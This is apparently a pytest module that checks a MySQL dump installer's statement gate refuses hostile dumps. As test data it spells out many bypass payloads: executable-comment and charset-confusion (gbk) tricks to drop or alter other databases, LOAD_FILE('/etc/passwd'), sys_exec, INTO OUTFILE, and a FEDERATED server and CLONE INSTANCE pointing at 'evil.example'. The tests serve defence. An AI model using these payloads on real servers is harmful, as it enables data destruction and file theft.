"""The MySQL statement gate reads a hostile dump as the server does, whatever the syntax chosen to hide in.

Each attack here got through the gate (engines/mysql/gate.py) once: the server accepts spellings the gate
did not know (``[db].[t]`` under sql_mode MSSQL, ``@@global .x``, ``KILL (1)``, ``/*!100000`` before a name
that starts with digits, ``DROP DATABASE IF EXISTS``), a session the gate cannot read in (a character set
like gbk reached through a variable), INSERT values, which the gate did not look into, calling functions
of other databases, and worker connections left in another sql_mode than the one the gate reads with.
The end-to-end tests install a dump whose last statements attack another database of the local server
and check that the install failed and the other database is untouched.
"""

from __future__ import annotations

import contextlib
import io
import uuid
from collections.abc import Callable, Iterator
from typing import Any

import pytest
from test_mysql_support import load_with_client

from synco_core.dburl import parse_database_url
from synco_core.engines.mysql import querypackets
from synco_core.engines.mysql.gate import StatementGate, check_session
from synco_core.engines.mysql.install import install as mysql_install
from synco_core.engines.mysql.splitter import SIZE_HINT
from synco_core.engines.mysql.swap import SCRATCH_SUFFIX, derived_name
from synco_core.errors import DatabaseError, SyncoError
from synco_core.testing.services import mysql_admin_connection, mysql_database, mysql_url_for
from synco_core.values import InstallOptions

pytestmark = pytest.mark.mysql

PREFIX = b"CREATE TABLE t (id int);\nINSERT INTO t VALUES (1);\n"


@contextlib.contextmanager
def _victim(name: str) -> Iterator[str]:
    with mysql_admin_connection() as conn, conn.cursor() as cur:
        cur.execute(f"CREATE DATABASE `{name}`")
        cur.execute(f"CREATE TABLE `{name}`.precious (x int)")
        cur.execute(f"INSERT INTO `{name}`.precious VALUES (42)")
        cur.execute(f"CREATE SEQUENCE `{name}`.s")
    try:
        yield name
    finally:
        with mysql_admin_connection() as conn, conn.cursor() as cur:
            cur.execute(f"DROP DATABASE IF EXISTS `{name}`")


@pytest.fixture(scope="module", params=["plain", "digits", "unicode"])
def victim(request: pytest.FixtureRequest) -> Iterator[str]:
    """Another database of the local server: named plainly, with leading digits, and not in ASCII. One of
    each for the module: the tests only read it (an attack that changed it fails the test that made it)."""
    suffix = uuid.uuid4().hex[:10]
    with _victim({"plain": f"myvictim_{suffix}", "digits": f"2024v{suffix}",
                  "unicode": f"café_{suffix}"}[request.param]) as name:
        yield name


@pytest.fixture(scope="module")
def spelled_victims() -> Iterator[Callable[[str], str]]:
    """The victim whose name starts with these letters, made the first time a test asks, one for the module."""
    made: dict[str, str] = {}
    with contextlib.ExitStack() as stack:
        def victim(letters: str) -> str:
            if letters not in made:
                made[letters] = stack.enter_context(_victim(f"{letters}_{uuid.uuid4().hex[:10]}"))
            return made[letters]

        yield victim


@pytest.fixture(scope="module")
def refusing_target() -> Iterator[str]:
    """The database the attacks are installed into, one for the module: each install is refused, which
    leaves it as it was, so that no test sees what another did to it."""
    with mysql_database() as name:
        yield name


def _intact(victim: str) -> None:
    with mysql_admin_connection() as conn, conn.cursor() as cur:
        cur.execute(f"SELECT x FROM `{victim}`.precious")
        assert [row[0] for row in cur.fetchall()] == [42]
        cur.execute(f"SELECT next_not_cached_value FROM `{victim}`.s")
        assert cur.fetchone()[0] == 1


def _install(target: str, dump: bytes) -> None:
    mysql_install(parse_database_url(mysql_url_for(target)), io.BytesIO(dump), InstallOptions(yes=True))


GBK_PROCEDURE = (
    # Read as gbk, 0xbf 0x5c is one letter and the quote after it ends the string: the DELETE is code. Read
    # byte by byte (the gate), with backslash escapes or without, the DELETE is inside a string.
    b"DELIMITER ;;\nCREATE PROCEDURE p() BEGIN SELECT '\xbf\x5c', \"\\\"\"; DELETE FROM {victim}.precious; "
    b"-- \"'\nEND;;\nDELIMITER ;\nCALL p();\n")
ATTACKS = [
    b"/*!50000 */ DROP DATABASE IF EXISTS `{victim}`;\n",
    b"/*!*/ DROP SCHEMA /*!32312 IF EXISTS*/ `{victim}`;\n",
    b"SET sql_mode = 'MSSQL';\nDELETE FROM [{victim}].[precious];\n",
    b"SET sql_mode = 'MSSQL';\nUPDATE [{victim}] . precious SET x = 0;\n",
    b"INSERT INTO t VALUES (SETVAL(`{victim}`.s, 1000));\n",
    b"INSERT INTO t VALUES (1), ((SELECT NEXTVAL({victim} . s)));\n",
    b"INSERT INTO t VALUES (NEXT VALUE FOR {victim}/**/.s);\n",
    b"SET @cs = 'gbk';\nSET character_set_client = @cs;\n" + GBK_PROCEDURE,
    b"SET character_set_client = 28;\n" + GBK_PROCEDURE,
    b"SET @@session.character_set_client = 'gbk';\n" + GBK_PROCEDURE,
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_dump_reaches_no_other_database_however_written(attack: bytes, victim: str, refusing_target: str) -> None:
    if victim[0].isdigit() or not victim.isascii():
        # Such names are written bare: the server reads them so, the gate must too.
        attack = attack.replace(b"`{victim}`", b"{victim}")
    dump = PREFIX + attack.replace(b"{victim}", victim.encode())
    with pytest.raises(SyncoError, match="refusing statement"):
        _install(refusing_target, dump)
    _intact(victim)


@pytest.mark.parametrize("version", [b"/*!", b"/*!100000", b"/*M!10000"])
def test_digits_of_an_executable_comment_are_read_as_the_server_may(
        version: bytes, mysql_database_factory: Callable[[], str]) -> None:
    """MariaDB takes five or six digits for the version, fewer are the code's: the name after them may
    begin with the digits the gate took for the version."""
    with _victim(f"2024v{uuid.uuid4().hex[:10]}") as victim:
        dump = PREFIX + b"DELETE FROM " + version + victim.encode() + b"*/.precious;\n"
        with pytest.raises(SyncoError, match="refusing statement"):
            _install(mysql_database_factory(), dump)
        _intact(victim)


@pytest.mark.parametrize("settings", [
    # @m is set on the main connection only (a statement that is not a plain SET runs there alone): the
    # workers, which insert the rows, would read values without backslash escapes, the gate with them.
    b"/*!*/ SET @m = 1;\nSET sql_mode = IF(@m IS NULL, 'NO_BACKSLASH_ESCAPES', @@sql_mode);\n",
    # The other way round: the gate reads without escapes, the workers with them.
    b"/*!*/ SET sql_mode = 'NO_BACKSLASH_ESCAPES';\n",
])
def test_workers_insert_in_the_sql_mode_the_gate_reads_with(
        settings: bytes, mysql_database_factory: Callable[[], str]) -> None:
    """A dump's rows go to worker connections (a script without a dump's header runs on one): a worker whose
    session a SET left otherwise than the main one's takes the main one's settings before its next row (it was
    refused), so every value is read as the gate read it, and as the client reads it on its one connection."""
    header = b"-- MariaDB dump 10.19  Distrib 10.11.19-MariaDB, for debian-linux-gnu (x86_64)\n"
    dump = header + PREFIX + b"CREATE TABLE s (v VARCHAR(20));\n" + settings + b"INSERT INTO s VALUES ('a\\\\b');\n"
    target, reference = mysql_database_factory(), mysql_database_factory()
    _install(target, dump)
    load_with_client(reference, dump)

    def values(database: str) -> list[Any]:
        with mysql_admin_connection(database) as conn, conn.cursor() as cur:
            cur.execute("SELECT v FROM s")
            return list(cur.fetchall())

    assert values(target) == values(reference)


def test_a_view_named_with_its_database_is_still_known_to_read_another(
        victim: str, mysql_database_factory: Callable[[], str]) -> None:
    """``CREATE VIEW scratch.v``: the gate took ``scratch`` for the view's name, and let ``DELETE FROM v``
    delete the other database's rows through it."""
    target = mysql_database_factory()
    scratch = derived_name(target, SCRATCH_SUFFIX)
    dump = PREFIX + (f"CREATE VIEW `{scratch}` . v AS SELECT x FROM `{victim}`.precious;\n"
                     "DELETE FROM v;\n").encode()
    with pytest.raises(SyncoError, match=r"refusing statement 4 .*view 'v'"):
        _install(target, dump)
    _intact(victim)


@pytest.mark.parametrize("attack", ["CREATE OR REPLACE USER '{user}'@'localhost'",
                                    "CREATE /*!*/ OR REPLACE ROLE '{user}'",
                                    "/*!*/ CREATE DATABASE `{user}`",
                                    "CREATE OR REPLACE DATABASE `{user}`"])
def test_users_roles_and_databases_are_not_created_however_written(
        attack: str, mysql_database_factory: Callable[[], str]) -> None:
    user = "evil_" + uuid.uuid4().hex[:8]
    try:
        with pytest.raises(SyncoError, match="refusing statement 3"):
            _install(mysql_database_factory(), PREFIX + attack.format(user=user).encode() + b";\n")
    finally:
        with mysql_admin_connection() as conn, conn.cursor() as cur:
            cur.execute("SELECT COUNT(*) FROM mysql.user WHERE user = %s", (user,))
            created = cur.fetchone()[0]
            cur.execute(f"DROP USER IF EXISTS '{user}'@'localhost'")
            cur.execute(f"DROP ROLE IF EXISTS '{user}'")
            cur.execute("SHOW DATABASES LIKE %s", (user,))
            database = cur.fetchall()
            cur.execute(f"DROP DATABASE IF EXISTS `{user}`")
    assert not created
    assert not database


def test_words_of_the_gate_inside_strings_do_not_refuse_a_dump(mysql_database_factory: Callable[[], str]) -> None:
    """Read without backslash escapes, ``'it\\'s'`` ends early and the rest of the text looks like code:
    words refused only in their place (GLOBAL after SET or a comma, RESTART first) do not refuse it there."""
    dump = PREFIX + (b"CREATE PROCEDURE p() SELECT 'it\\'s a global setting, restart nothing';\n"
                     b"CREATE SEQUENCE s;\nALTER SEQUENCE s RESTART;\n")
    _install(mysql_database_factory(), dump)


DESTRUCTIVE = [
    "KILL (999999999)",
    "KILL @id",
    "KILL QUERY ID 999999999",
    "SET @@global .max_connections = 1",
    "SET @@GLOBAL/**/.max_connections = 1",
    "SET @a = 1, GLOBAL max_connections = 1",
    "SET SESSION wait_timeout = 1, PERSIST max_connections = 1",
    "CREATE PROCEDURE p() SET @a = 1, GLOBAL max_connections = 1",
    "BACKUP STAGE BLOCK_COMMIT",
    "DROP DATABASE IF EXISTS other",
    "/*!50000 */ DROP DATABASE IF EXISTS /*!100000other*/",
    "/*!*/ DROP DATABASE shop",
    "CREATE OR REPLACE SERVER s FOREIGN DATA WRAPPER mysql OPTIONS (HOST 'evil.example')",
    "RESTART",
    "CREATE PROCEDURE p() BEGIN SELECT 1; RESTART; END",
    "CREATE EVENT e ON SCHEDULE AT CURRENT_TIMESTAMP DO RESTART",
    "CREATE OR REPLACE SPATIAL REFERENCE SYSTEM 4326 NAME 'x' DEFINITION 'y'",
    "SET RESOURCE GROUP rg FOR 1",
    "XA ROLLBACK 'a prepared transaction of another application'",
    "CREATE PROCEDURE p() XA COMMIT 'x'",
]


@pytest.mark.parametrize("attack", DESTRUCTIVE)
def test_gate_refuses_what_acts_on_the_server_however_written(attack: str) -> None:
    """Checked on the gate alone: sent to the test server, they would harm it."""
    gate = StatementGate(["shop__synco_new", "shop"], ["shop", "shop__synco_new", "mysql", "other", "100000other"])
    with pytest.raises(DatabaseError, match="refusing statement 7"):
        gate.check(attack.encode(), 7)


class _Session:
    """A connection whose session reports ``state``: no server here has an engine whose rows live
    elsewhere (FEDERATED, CONNECT) loaded, and installing one would change the shared server."""

    def __init__(self, state: tuple[str, ...]) -> None:
        self.state = state

    def cursor(self) -> _Session:
        return self

    def __enter__(self) -> _Session:
        return self

    def __exit__(self, *exc: object) -> None:
        return None

    def execute(self, sql: str) -> None:
        assert "@@default_storage_engine" in sql

    def fetchone(self) -> tuple[Any, ...]:
        return self.state


@pytest.mark.parametrize("state", [("utf8mb4", "", "CONNECT", "InnoDB"), ("utf8mb4", "", "InnoDB", "FEDERATED"),
                                   (b"sjis", b"", b"InnoDB", b"InnoDB")])
def test_a_session_left_with_an_external_default_engine_or_unsafe_charset_is_refused(state: tuple[Any, ...]) -> None:
    """``SET default_storage_engine = CONNECT``, then ``CREATE TABLE f (...) FILE_NAME='/etc/passwd'``
    without ``ENGINE=``: the gate sees no engine, the session's state says it."""
    with pytest.raises(DatabaseError, match="refusing statement 5"):
        check_session(_Session(state), 5)
    assert check_session(_Session(("utf8mb4", "ANSI_QUOTES", "InnoDB", "Aria")), 5) == ("utf8mb4", "ANSI_QUOTES")


def test_the_database_defaults_comment_cannot_carry_sql(mysql_database_factory: Callable[[], str]) -> None:
    """The loader writes the header's defaults into an ALTER DATABASE of its own, which no gate reads."""
    target = mysql_database_factory()
    header = (b'-- synco-database-defaults: {"charset": "utf8mb4 COMMENT \'set by the dump\'", '
              b'"collation": "utf8mb4_bin"}\n')
    with pytest.raises(SyncoError, match="database defaults are not a character set and a collation name"):
        _install(target, header + PREFIX)
    with mysql_admin_connection() as conn, conn.cursor() as cur:
        cur.execute("SELECT SCHEMA_COMMENT FROM information_schema.SCHEMATA WHERE SCHEMA_NAME LIKE %s",
                    (target + "%",))
        assert all(not comment for (comment,) in cur.fetchall())


BENIGN_VALUES = [
    b"INSERT INTO t VALUES (1,'Proudly powered by WordPress. See wordpress.org','x'),(2,'wordpress (the blog)',NULL)",
    b"INSERT INTO `t` VALUES (1,'it\\'s wordpress.f()','a\\\\'),(2,\"WordPress. \\\"q\\\"\",'-- wordpress.x')",
]
HOSTILE_VALUES = [
    b"INSERT INTO t VALUES (1,'Powered by WordPress.',wordpress.f())",
    b"INSERT INTO t VALUES (1,'x',`wordpress`.f())",
    b"INSERT INTO t VALUES (1,'it''s',wordpress . f())",
    b"INSERT INTO t VALUES (1,'a\\\\', NEXTVAL(wordpress/**/.s))",
    b"INSERT INTO t VALUES (1 /*!, wordpress.f() */)",
]


@pytest.mark.parametrize("statement", BENIGN_VALUES)
def test_a_database_name_in_the_text_of_values_costs_no_tokenising(statement: bytes,
                                                                    monkeypatch: pytest.MonkeyPatch) -> None:
    """A laptop with a database `wordpress` and a site whose posts say "WordPress.": every INSERT of the
    posts was read token by token (about a second a megabyte). Only the code between the strings counts."""
    gate = StatementGate(["shop__synco_new", "shop"], ["shop", "shop__synco_new", "wordpress"])

    def tokenised(*args: object) -> None:
        raise AssertionError("read token by token")

    monkeypatch.setattr("synco_core.engines.mysql.qualify.tokens", tokenised)
    gate.check(statement, 3)


@pytest.mark.parametrize("statement", HOSTILE_VALUES)
@pytest.mark.parametrize("sql_mode", ["", "NO_BACKSLASH_ESCAPES", "ANSI_QUOTES"])
def test_a_database_name_in_the_code_of_values_is_still_refused(statement: bytes, sql_mode: str) -> None:
    gate = StatementGate(["shop__synco_new", "shop"], ["shop", "shop__synco_new", "wordpress"])
    gate.observe("utf8mb4", sql_mode)
    with pytest.raises(DatabaseError, match="refusing statement 3"):
        gate.check(statement, 3)


#: Bytes of string before the code of a streamed INSERT: over the splitter's 4 MiB, so the loader sends it
#: as it reads it (querypackets), under the server's usual 16 MB max_allowed_packet.
_STREAMED_FILLER = 5 << 20


def _streamed_dump(values: bytes) -> bytes:
    """A dump whose INSERT into ``big`` holds 5 MB of string and then ``values`` (hinted, so streamed)."""
    statement = b"INSERT INTO big VALUES (1,'" + b"lorem ipsum " * (_STREAMED_FILLER // 12) + b"')," + values
    return (PREFIX + b"CREATE TABLE big (id int, v longtext);\n" + SIZE_HINT + str(len(statement)).encode()
            + b"\n" + statement + b";\n")


@pytest.fixture
def streamed_sends(monkeypatch: pytest.MonkeyPatch) -> list[int]:
    """How many statements the loader sent as it read them (the test must cover that path)."""
    sent: list[int] = []
    original = querypackets.send_streamed

    def counted(conn: Any, statement: Any) -> None:
        sent.append(len(statement))
        original(conn, statement)

    monkeypatch.setattr(querypackets, "send_streamed", counted)
    return sent


STREAMED_ATTACKS = [
    b"(2, SETVAL(`{victim}`.s, 1000))",
    b"(2, `{victim}`.f())",
    b"(3, 'it''s'), (2, NEXTVAL(`{victim}` /**/ . s))",
    b"(2, LOAD_FILE('/etc/passwd'))",
]


@pytest.mark.parametrize("attack", STREAMED_ATTACKS)
def test_a_streamed_insert_is_read_to_its_end_before_it_runs(
        attack: bytes, victim: str, mysql_database_factory: Callable[[], str], streamed_sends: list[int]) -> None:
    """A row with a huge value is sent as the dump is read: the code after 5 MB of string is read too, and
    the statement never completes on the server when it reaches another database."""
    with mysql_admin_connection() as conn, conn.cursor() as cur:
        cur.execute(f"CREATE OR REPLACE FUNCTION `{victim}`.f() RETURNS int MODIFIES SQL DATA "
                    "BEGIN DELETE FROM precious; RETURN 1; END")
    target = mysql_database_factory()
    with pytest.raises(SyncoError, match="refusing statement 4 of the dump") as refused:
        _install(target, _streamed_dump(attack.replace(b"{victim}", victim.encode())))
    assert "\n" not in str(refused.value) and "lorem" not in str(refused.value)
    assert streamed_sends, "the INSERT was not sent as it was read"
    _intact(victim)


def test_a_streamed_insert_whose_text_names_a_database_loads(
        victim: str, mysql_database_factory: Callable[[], str], streamed_sends: list[int]) -> None:
    """The name of a local database before a dot, in the text of a huge row's strings, is text."""
    name = victim.encode()
    target = mysql_database_factory()
    _install(target, _streamed_dump(b"(2, 'see " + name + b".f() and " + name + b".s'), (3, '" + name + b".')"))
    assert streamed_sends
    with mysql_admin_connection() as conn, conn.cursor() as cur:
        cur.execute(f"SELECT id, LENGTH(v) FROM `{target}`.big ORDER BY id")
        rows = cur.fetchall()
    assert [row[0] for row in rows] == [1, 2, 3] and rows[0][1] > _STREAMED_FILLER - 12
    _intact(victim)


#: A name of another database in letters other than ASCII's, and connection character sets that can spell it
#: in bytes other than its UTF-8 ones (latin1's 0x80 is the euro sign, as in cp1252).
_SPELLED_ELSEWHERE = [("café", cs) for cs in ("latin1", "latin2", "cp1250", "cp850", "macroman")] + [
    ("бд", cs) for cs in ("cp1251", "koi8r", "cp866")] + [("€", "latin1"), ("€", "cp1251")]
SPELLED_ATTACKS = [
    b"DROP TABLE {victim}.precious;\n",
    b"DELETE FROM `{victim}`.precious;\n",
    b"/*!*/ DROP DATABASE IF EXISTS `{victim}`;\n",
    b"INSERT INTO t VALUES (SETVAL(`{victim}`.s, 1000));\n",
    b"INSERT INTO t VALUES (1), ((SELECT NEXTVAL({victim} . s)));\n",
    b"CREATE TRIGGER tr AFTER INSERT ON t FOR EACH ROW DELETE FROM `{victim}`.precious;\n"
    b"INSERT INTO t VALUES (2);\n",
]


@pytest.mark.parametrize(("letters", "charset"), _SPELLED_ELSEWHERE)
@pytest.mark.parametrize("attack", SPELLED_ATTACKS)
def test_a_database_named_in_the_connections_character_set_is_still_another(
        letters: str, charset: str, attack: bytes, spelled_victims: Callable[[str], str],
        refusing_target: str) -> None:
    """``SET NAMES cp1251`` and then another database's name in cp1251's bytes: the server reads the name it
    spells, the gate read the bytes as latin-1 or UTF-8, found no database of that name, and let the dump
    drop the other database's table."""
    victim = spelled_victims(letters)
    with mysql_admin_connection() as conn, conn.cursor() as cur:
        cur.execute(f"SELECT CAST(CONVERT(%s USING {charset}) AS BINARY)", (victim,))
        spelled = bytes(cur.fetchone()[0])
    assert spelled != victim.encode() and b"?" not in spelled
    dump = PREFIX + b"SET NAMES " + charset.encode() + b";\n" + attack.replace(b"{victim}", spelled)
    with pytest.raises(SyncoError, match="refusing statement"):
        _install(refusing_target, dump)
    _intact(victim)


@pytest.mark.parametrize("charset", ["latin1", "cp1251"])
def test_a_streamed_insert_naming_a_database_in_the_connections_character_set_is_refused(
        charset: str, mysql_database_factory: Callable[[], str], streamed_sends: list[int]) -> None:
    with _victim(f"€_{uuid.uuid4().hex[:10]}") as victim:
        with mysql_admin_connection() as conn, conn.cursor() as cur:
            cur.execute(f"CREATE FUNCTION `{victim}`.f() RETURNS int MODIFIES SQL DATA "
                        "BEGIN DELETE FROM precious; RETURN 1; END")
            cur.execute(f"SELECT CAST(CONVERT(%s USING {charset}) AS BINARY)", (victim,))
            spelled = bytes(cur.fetchone()[0])
        dump = _streamed_dump(b"(2, `" + spelled + b"`.f())").replace(
            PREFIX, PREFIX + b"SET NAMES " + charset.encode() + b";\n", 1)
        with pytest.raises(SyncoError, match="refusing statement 5 of the dump"):
            _install(mysql_database_factory(), dump)
        assert streamed_sends
        _intact(victim)


def test_names_in_the_connections_character_set_that_are_the_dumps_own_still_load(
        mysql_database_factory: Callable[[], str]) -> None:
    """A cp1251 session naming its own tables and columns in Cyrillic (qualified, in a view and a trigger)
    next to another database whose name is Cyrillic too."""
    with _victim(f"бд_{uuid.uuid4().hex[:10]}"):
        target = mysql_database_factory()
        dump = PREFIX + ("SET NAMES cp1251;\nCREATE TABLE `таблица` (`ид` int);\n"
                         "INSERT INTO `таблица` VALUES (1), (`таблица`.`ид` + 1);\n"
                         "CREATE VIEW `вид` AS SELECT `т`.`ид` FROM `таблица` `т`;\n"
                         "CREATE TRIGGER `тр` BEFORE INSERT ON `таблица` FOR EACH ROW SET NEW.`ид` = NEW.`ид` + 1;\n"
                         ).encode("cp1251")
        _install(target, dump)
        with mysql_admin_connection(target) as conn, conn.cursor() as cur:
            cur.execute("SELECT COUNT(*) FROM `вид`")
            assert cur.fetchone()[0] == 2


@pytest.mark.parametrize("writes", [b"SET NAMES utf8mb4;\nDELETE FROM `{utf8}`", b"DELETE FROM `{latin1}`",
                                    b"INSERT INTO `{latin1}` VALUES (1)",
                                    b"SET NAMES utf8mb4;\nUPDATE `{utf8}` SET x = 0"])
def test_a_view_reading_another_database_is_known_however_its_name_is_spelled(
        writes: bytes, victim: str, mysql_database_factory: Callable[[], str]) -> None:
    """A view named in latin1's bytes was remembered by its bytes read as UTF-8, and found again by neither
    spelling: the dump wrote through it into the other database."""
    name = "vüe"
    other = victim.encode("latin-1")  # café_... too: the view reads the other database, as it is meant to
    dump = PREFIX + (b"SET NAMES latin1;\nCREATE VIEW `" + name.encode("latin-1") + b"` AS SELECT x FROM `" + other
                     + b"`.precious;\n")
    dump += writes.replace(b"{utf8}", name.encode()).replace(b"{latin1}", name.encode("latin-1")) + b";\n"
    with pytest.raises(SyncoError, match="refusing statement"):
        _install(mysql_database_factory(), dump)
    _intact(victim)


def test_a_character_set_whose_names_the_gate_cannot_read_is_refused_next_to_such_names(
        mysql_database_factory: Callable[[], str]) -> None:
    """In ujis (several bytes a letter, not UTF-8) the gate cannot tell which database a name is: with one
    whose name is not ASCII on the server, switching to it is refused (without one it is allowed, which a
    test cannot show on a server other tests share)."""
    target = mysql_database_factory()
    dump = PREFIX + b"SET NAMES ujis;\nCREATE TABLE `" + "表".encode("euc_jp") + b"` (x int);\n"
    with _victim(f"café_{uuid.uuid4().hex[:10]}") as victim:
        with pytest.raises(SyncoError, match=r"refusing statement 3 .*character set ujis, in which the names"):
            _install(target, dump)
        _intact(victim)


@pytest.mark.parametrize("statement", [
    "SET NAMES gbk", "/*!40101 SET NAMES sjis */", "SET CHARACTER SET big5", "SET CHARSET cp932",
    "SET @a = 1, NAMES gbk", "SET SESSION character_set_client = 'gbk'", "SET character_set_connection=sjis",
    "SET STATEMENT max_statement_time = 1 FOR SET NAMES gbk",
    "CREATE TRIGGER tr BEFORE INSERT ON t FOR EACH ROW SET NAMES gbk",
    "CREATE PROCEDURE p() BEGIN DECLARE CONTINUE HANDLER FOR SQLEXCEPTION SET NAMES gbk; SELECT 1; END",
    "CREATE PROCEDURE p() BEGIN DECLARE x INT; IF x THEN SET x = 1, NAMES sjis; END IF; END",
    "CREATE TABLE t2 (a INT, FOREIGN KEY (a) REFERENCES t (id) ON DELETE SET NULL); SET NAMES gbk",
])
def test_a_switch_of_the_connection_to_a_split_letter_character_set_is_refused(statement: str) -> None:
    gate = StatementGate(["shop"], ["shop", "other"])
    with pytest.raises(DatabaseError, match="refusing statement 2 of the dump: it switches the connection to "
                                            "character set"):
        gate.check(statement.encode(), 2)


@pytest.mark.parametrize("statement", [
    "CREATE TABLE t (a INT, b TEXT CHARSET gbk) ENGINE=InnoDB DEFAULT CHARSET=gbk",
    "CREATE TABLE t (a INT, FOREIGN KEY (a) REFERENCES p (id) ON DELETE SET NULL ON UPDATE SET DEFAULT) CHARSET sjis",
    "CREATE TABLE t (s SET('a','b') CHARSET big5, e ENUM('x') CHARACTER SET cp932)",
    "ALTER TABLE t CONVERT TO CHARSET gbk, DEFAULT CHARSET = gbk",
    "CREATE FUNCTION f(a VARCHAR(5) CHARSET gbk) RETURNS VARCHAR(5) CHARSET sjis RETURN a",
    "CREATE PROCEDURE p() BEGIN DECLARE x VARCHAR(5) CHARSET gbk; SET x = 'a'; SELECT CONVERT(x USING sjis); END",
])
def test_a_character_set_named_by_a_definition_is_no_switch(statement: str) -> None:
    StatementGate(["shop"], ["shop", "other"]).check(statement.encode(), 2)


@pytest.mark.parametrize("statement", [
    "CREATE PROCEDURE p() BEGIN DECLARE CONTINUE HANDLER FOR SQLEXCEPTION FLUSH TABLES; SELECT 1; END",
    "CREATE TRIGGER tr BEFORE INSERT ON t FOR EACH ROW SET NEW.id = LOAD_FILE('/etc/passwd')",
    "CREATE PROCEDURE p() BEGIN SET @x = 1; EXECUTE s; END",
    "CREATE PROCEDURE p() PREPARE s FROM 'SELECT 1'",
    "SELECT 1 FROM t WHERE LOAD_FILE('/etc/passwd') = 1",
    "SELECT t.id, sys_exec('id') FROM t",
    "SELECT 1 AS a, .LOAD_FILE('/etc/passwd')",
    "SELECT 1 INTO OUTFILE '/tmp/x'",
    "CLONE LOCAL DATA DIRECTORY = '/tmp/x'",
    "CREATE FUNCTION f RETURNS INTEGER SONAME 'x.so'",
    "UPDATE t SET a = 1 WHERE id = 1; SHUTDOWN",
    "CREATE TRIGGER tr BEFORE INSERT ON t FOR EACH ROW KILL - 1",
    "CREATE TRIGGER tr BEFORE INSERT ON t FOR EACH ROW KILL NOT 0",
    "CREATE PROCEDURE p() BEGIN SELECT clone FROM t; FLUSH LOCAL TABLES; END",
    "CREATE PROCEDURE p() BEGIN SELECT a, shutdown FROM t; SHUTDOWN; END",
    "CREATE EVENT e ON SCHEDULE EVERY 1 DAY DO CLONE INSTANCE FROM 'u'@'evil.example':3306 IDENTIFIED BY 'p'",
])
def test_the_words_of_statements_that_act_beyond_the_database_are_still_refused_next_to_columns(
        statement: str) -> None:
    """Columns named ``flush``, ``execute``, ``load_file`` are let through where they are qualified or assigned;
    the statements and functions of those names still are not."""
    gate = StatementGate(["shop"], ["shop", "other"])
    with pytest.raises(DatabaseError, match="refusing statement 2 of the dump: it uses"):
        gate.check(statement.encode(), 2)


@pytest.mark.parametrize("statement", [
    "CREATE VIEW v AS SELECT clone, flush AS f, kill FROM t WHERE shutdown > 0 ORDER BY execute DESC",
    "CREATE PROCEDURE p() SELECT a, prepare, binlog FROM t WHERE sys_exec IS NULL OR load_file LIKE 'x%'",
    "SELECT COUNT(flush), MAX(clone) FROM t GROUP BY execute HAVING shutdown < 2 LIMIT 1",
    "SELECT a FROM t WHERE kill IN (1, 2) AND datafile BETWEEN 0 AND 1 XOR soname ASC",
    "SELECT outfile, dumpfile FROM t WHERE global < 1 AND persist > 0",
])
def test_bare_columns_named_like_the_refused_words_are_no_statement(statement: str) -> None:
    """Selected, compared, grouped by: followed by what never follows the statement or function of that name."""
    StatementGate(["shop"], ["shop", "other"]).check(statement.encode(), 2)


@pytest.mark.parametrize("statement", [
    "SET @a = (1), @@global.max_connections = 1",
    "SET @a = f(1, 2), @@persist.max_connections := 1",
    "SET STATEMENT max_statement_time = 1 FOR SET @@global.max_connections = 1",
    "CREATE PROCEDURE p() BEGIN IF 1 THEN SET @x = 1, @@GLOBAL.max_connections = 1; END IF; END",
    "CREATE PROCEDURE p() BEGIN DECLARE CONTINUE HANDLER FOR SQLEXCEPTION SET @@global.max_connections = 1; END",
    "CREATE TRIGGER tr BEFORE INSERT ON t FOR EACH ROW SET NEW.a = 1, @@global .max_connections = 1",
])
def test_a_global_variable_is_not_set_however_the_assignment_is_placed(statement: str) -> None:
    gate = StatementGate(["shop"], ["shop", "other"])
    with pytest.raises(DatabaseError, match="refusing statement 2 of the dump: it changes the server's variable"):
        gate.check(statement.encode(), 2)


@pytest.mark.parametrize("statement", [
    "CREATE FUNCTION f() RETURNS INT RETURN @@global.max_connections",
    "SET @a = @@global.max_connections, @b = GREATEST(1, @@GLOBAL.max_connections)",
    "UPDATE t SET a = CONVERT_TZ(a, @@global.time_zone, '+00:00') WHERE @@global.read_only = 0",
    "CREATE PROCEDURE p() BEGIN IF @@GLOBAL.read_only = 0 THEN SELECT 1, @@global.version; END IF; END",
])
def test_reading_a_global_variable_is_no_change_of_it(statement: str) -> None:
    StatementGate(["shop"], ["shop", "other"]).check(statement.encode(), 2)
